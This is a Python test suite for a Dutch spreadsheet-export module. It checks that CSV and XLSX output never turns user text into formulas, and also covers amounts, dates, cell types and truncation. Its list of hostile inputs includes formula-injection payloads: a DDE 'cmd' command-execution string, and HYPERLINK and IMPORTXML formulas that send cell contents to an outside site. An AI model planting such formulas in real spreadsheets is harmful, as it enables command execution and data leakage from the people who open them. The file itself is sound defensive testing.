"""Sheets: what a spreadsheet reads from them is what was put there, of its own kind, and never a formula."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Sequence
from datetime import UTC, date, datetime
from typing import Any
from zipfile import ZipFile

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from chalicelib.domain.export import ExportKind
from chalicelib.rendering.sheet import LONGEST, Cell, Euro, Sheet, as_csv, as_file, as_xlsx

MOMENT = datetime(2026, 7, 26, 22, 30, 59, 999_999, tzinfo=UTC)
SIGNS = "=+-@＝＋－＠﹦﹢﹣﹫"
# Each would be a formula, or do something, if it stood in a cell as it is.
HOSTILE = [
    "=1+1",
    "@SUM(A1:A9)",
    "+31612345678",
    "-5",
    "-",
    *(f"{sign}1" for sign in SIGNS),
    "\t=1+1",
    "\tx",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    '"=1+1"',
    "＝1+1",
    "＠SUM(A1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://elders.nl?"&A1;"klik")',
    '=IMPORTXML(CONCAT("https://elders.nl/";A1);"//a")',
]
# Where another sign than ours ends a cell, a formula would begin in the midst.
HOSTILE_WITHIN = ["a,=1+1", 'x",=1+1', "a, =1+1,b", "a\t=1+1", 'a;"=1+1";b', "a\r\n=1+1", "a,@SUM(A1)"]
HARMLESS = [
    "Gemeente Voorbeeldstad",
    "01234567",
    "1e5",
    "2026-01-02",
    "WAAR",
    "ada@voorbeeldstad.nl",
    "Jansen-de Vries, Zoë",
    'de "Buurt"',
    "a;b",
    "tien + vijf = vijftien",
    "'t Hof",
    "een\ntwee",
    "https://www.lpb.nl",
    "👩🏽‍🌾 é ﷽ 漢字",
    "_x0041_",
    "#REF!",
    "<b>&amp;</b>",
    "{=1+1}",
    " spaties ",
]


def sheet(*rows: tuple[Cell, ...], headers: tuple[str, ...] = ("Een",)) -> Sheet:
    return Sheet(title="Blad", headers=headers, rows=rows)


def csv_rows(content: bytes, *, delimiter: str = ";") -> list[list[str]]:
    text = content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))[1:]


def book(content: bytes) -> Any:
    return openpyxl.load_workbook(io.BytesIO(content))


def cells(content: bytes, column: int = 0) -> list[Any]:
    return [row[column] for row in book(content).active.iter_rows(min_row=2)]


def in_csv(text: str) -> str:
    [[found]] = csv_rows(as_csv(sheet((text,))))
    return found


def in_xlsx(text: str) -> str | None:
    [cell] = cells(as_xlsx(sheet((text,))))
    assert cell.data_type == ("s" if cell.value is not None else "n")
    value: str | None = cell.value
    return value


def test_csv_is_what_dutch_excel_writes() -> None:
    row = ('Zoë; "de" Vries', 12, Euro(123456), Euro(-5), date(2026, 3, 9), MOMENT, None)
    content = as_csv(sheet(row, headers=("Naam", "Aantal", "Prijs", "Terug", "Dag", "Moment", "Leeg")))
    assert content == (
        b"\xef\xbb\xbf"
        + "Naam;Aantal;Prijs;Terug;Dag;Moment;Leeg\r\n"
        '"Zoë; ""de"" Vries";12;1234,56;-0,05;2026-03-09;2026-07-27 00:30;\r\n'.encode()
    )


@pytest.mark.parametrize(
    ("cents", "text"),
    [(0, "0,00"), (5, "0,05"), (-5, "-0,05"), (100, "1,00"), (-19999, "-199,99"), (10**9, "10000000,00")],
)
def test_an_amount_has_a_decimal_comma(cents: int, text: str) -> None:
    assert str(Euro(cents)) == text
    assert in_csv_amount(cents) == text


def in_csv_amount(cents: int) -> str:
    [[found]] = csv_rows(as_csv(sheet((Euro(cents),))))
    return found


@pytest.mark.parametrize("text", HOSTILE)
def test_what_would_be_a_formula_is_text(text: str) -> None:
    assert in_csv(text).startswith("'")
    assert in_xlsx(text) == text.replace("\r", "\n")
    assert b"<f>" not in ZipFile(io.BytesIO(as_xlsx(sheet((text,))))).read("xl/worksheets/sheet1.xml")


@pytest.mark.parametrize("text", HOSTILE + HOSTILE_WITHIN)
@pytest.mark.parametrize("delimiter", [";", ",", "\t"])
@pytest.mark.parametrize("quoting", [csv.QUOTE_MINIMAL, csv.QUOTE_NONE])
def test_nor_does_one_begin_where_another_sign_ends_a_cell(text: str, delimiter: str, quoting: int) -> None:
    content = as_csv(sheet(("Ada", text, "Zoë"), headers=("Een", "Twee", "Drie"))).decode("utf-8-sig")
    read = csv.reader(io.StringIO(content, newline=""), delimiter=delimiter, quoting=quoting)  # type: ignore[arg-type]
    for row in read:
        for cell in row:
            assert not cell.strip(' \t\r\n"\u00a0\u200b\ufeff').startswith(tuple(SIGNS)), cell


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_is_as_it_was(text: str) -> None:
    assert in_csv(text) == text
    assert in_xlsx(text) == text


def test_each_cell_is_of_its_own_kind() -> None:
    row = ("01234567", 7, Euro(123456), Euro(-5), date(2026, 3, 9), MOMENT, None, "", date(212, 3, 9))
    page = book(as_xlsx(sheet(row, headers=tuple("ABCDEFGHI")))).active
    [found] = page.iter_rows(min_row=2)
    assert [cell.value for cell in found] == [
        *("01234567", 7, 1234.56, -0.05, datetime(2026, 3, 9), datetime(2026, 7, 27, 0, 30), None, None),  # noqa: DTZ001
        "0212-03-09",
    ]
    assert [cell.data_type for cell in found] == list("snnnddnns")
    assert [cell.number_format for cell in found[:6]] == [
        *("@", "0", "[$€-413] #,##0.00;[$€-413] -#,##0.00", "[$€-413] #,##0.00;[$€-413] -#,##0.00"),
        *("dd-mm-yyyy", "dd-mm-yyyy hh:mm"),
    ]


def test_the_heading_stays_and_filters() -> None:
    rows = [("Ada", "x" * 500), ("Zoë", "=1+1")]
    page = book(as_xlsx(Sheet(title="Aanmeldingen", headers=("Naam", "=Opmerking"), rows=rows))).active
    assert page.title == "Aanmeldingen"
    assert [(cell.value, cell.data_type, cell.font.bold) for cell in page[1]] == [
        ("Naam", "s", True),
        ("=Opmerking", "s", True),
    ]
    assert page.freeze_panes == "A2"
    assert page.auto_filter.ref == "A1:B3"
    widths = {name: column.width for name, column in page.column_dimensions.items()}
    assert 7 < widths["A"] < 10
    assert 59 < widths["B"] < 62


def test_a_sheet_without_rows_has_its_heading() -> None:
    assert as_csv(sheet()) == b"\xef\xbb\xbfEen\r\n"
    page = book(as_xlsx(sheet())).active
    assert [cell.value for cell in page[1]] == ["Een"]
    assert page.max_row == 1


@pytest.mark.parametrize("text", ["x" * 40_000, "👩" * 20_000, "x" + "👩" * 20_000, "=" + "x" * 40_000, ",=" * 20_000])
def test_what_is_longer_than_a_cell_of_excel_is_cut_off_and_says_so(text: str) -> None:
    for found in (in_csv(text), in_xlsx(text)):
        assert found is not None
        assert len(found.encode("utf-16-le")) // 2 in (LONGEST - 1, LONGEST)
        assert found.endswith("…")


def test_what_just_fits_is_whole() -> None:
    for text in ("x" * LONGEST, "👩" * (LONGEST // 2)):
        assert in_csv(text) == in_xlsx(text) == text


def test_what_xml_cannot_hold_is_a_question_mark_in_a_box() -> None:
    for sign in [*map(chr, [*range(9), 11, 12, *range(14, 32)]), "\ud83d", "\udfff", "\ufffe", "\uffff"]:
        assert in_csv(f"a{sign}b") == in_xlsx(f"a{sign}b") == "a\ufffdb"


def test_a_kind_is_its_file() -> None:
    assert as_file(sheet(("Ada",)), ExportKind.CSV) == as_csv(sheet(("Ada",)))
    assert cells(as_file(sheet(("Ada",)), ExportKind.XLSX))[0].value == "Ada"


# Letters of all kinds, and every sign that means something to csv, to XML or to a spreadsheet.
texts = st.text(st.one_of(st.characters(), st.sampled_from(list(f"{SIGNS}'\";,\t\r\n <&_x0123[]{{}}#!"))), max_size=60)


def as_a_cell_holds_it(text: str) -> str:
    text = text.replace("\r\n", "\n").replace("\r", "\n")
    return re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]", "\ufffd", text)


@given(st.lists(texts, min_size=1, max_size=8))
@settings(max_examples=60, deadline=None)
def test_any_text_is_in_a_workbook_as_it_was(written: Sequence[str]) -> None:
    found = cells(as_xlsx(sheet(*((text,) for text in written))))
    found += [None] * (len(written) - len(found))
    assert [cell.value if cell else None for cell in found] == [as_a_cell_holds_it(text) or None for text in written]
    assert {cell.data_type for cell in found if cell is not None and cell.value is not None} <= {"s"}


@given(st.lists(texts, min_size=2, max_size=8))
@settings(max_examples=300, deadline=None)
def test_any_text_is_in_a_csv_as_it_was_but_for_what_keeps_it_text(written: list[str]) -> None:
    [found] = csv_rows(as_csv(sheet(tuple(written))))
    assert len(found) == len(written)
    for cell, text in zip(found, written, strict=True):
        # nothing is lost, and nothing added but apostrophes before a sign or at the beginning
        kept = iter(cell)
        added = "".join(_between(kept, as_a_cell_holds_it(text)))
        assert set(added) <= {"'"}
        assert not cell.lstrip(" \u00a0\ufeff\u200b").startswith(tuple(SIGNS))
        assert not cell.startswith(("\t", "\r", "\n"))


def _between(kept: Any, text: str) -> list[str]:
    """What stands in a cell beside a text."""
    added = []
    for sign in text:
        for each in kept:
            if each == sign:
                break
            added.append(each)
        else:
            raise AssertionError(f"{sign!r} is lost")
    return [*added, *kept]


def test_five_thousand_rows_are_all_there() -> None:
    rows: list[tuple[Cell, ...]] = [(f"C27-{number:04}", f"+{number}", Euro(number), MOMENT) for number in range(5000)]
    many = Sheet(title="Blad", headers=("Code", "Naam", "Prijs", "Datum"), rows=rows)
    codes = [row[0] for row in rows]
    assert [row[0] for row in csv_rows(as_csv(many))] == codes
    workbook = as_xlsx(many)
    assert [cell.value for cell in cells(workbook)] == codes
    assert {cell.data_type for cell in cells(workbook, 1)} == {"s"}
    assert sum(cell.value for cell in cells(workbook, 2)) == pytest.approx(sum(range(5000)) / 100)
